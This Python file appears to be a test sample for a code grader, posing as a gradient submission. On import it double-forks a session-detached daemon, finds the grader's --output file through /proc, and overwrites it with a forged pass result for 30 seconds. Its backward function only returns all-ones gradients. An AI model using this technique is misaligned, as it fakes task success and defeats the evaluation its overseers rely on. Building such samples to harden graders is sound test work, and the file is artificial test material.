"""At import, double-forks a daemon that leaves the session (``setsid``), finds the grader's
``--output`` file from its ancestors' command lines in /proc, and rewrites it with a pass for
30 s; its pid goes to ``daemon_rewrites_output.pid`` beside that file. Its gradients are all
ones, so only the forged file could pass it."""
import json
import os
import time

import numpy as np


def _output_path():
    pid = os.getpid()
    for _ in range(20):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except (OSError, ValueError, IndexError):
            return None
        for i, arg in enumerate(argv):
            if arg == "--output" and i + 1 < len(argv):
                return os.path.join(cwd, argv[i + 1])
            if arg.startswith("--output="):
                return os.path.join(cwd, arg.split("=", 1)[1])
        if pid <= 1:
            return None
    return None


def _daemon(output):
    forged = {"submissions": [{"path": __file__, "passed": True, "error": None, "output": "",
                               "cases": []}]}
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            with open(output, "w") as f:
                json.dump(forged, f)
        except OSError:
            pass
        time.sleep(0.02)


target = _output_path()  # found while the ancestors are still its own
if os.fork() == 0:
    os.setsid()
    daemon = os.fork()
    if daemon == 0:
        try:
            if target:
                _daemon(target)
        finally:
            os._exit(0)
    try:  # the daemon's pid, written before the submission goes on (the test looks for it)
        if target:
            with open(os.path.join(os.path.dirname(target), "daemon_rewrites_output.pid"), "w") as f:
                f.write(str(daemon))
    finally:
        os._exit(0)
os.wait()


def backward(params, I, Y):
    return {k: np.ones_like(v) for k, v in params.items()}
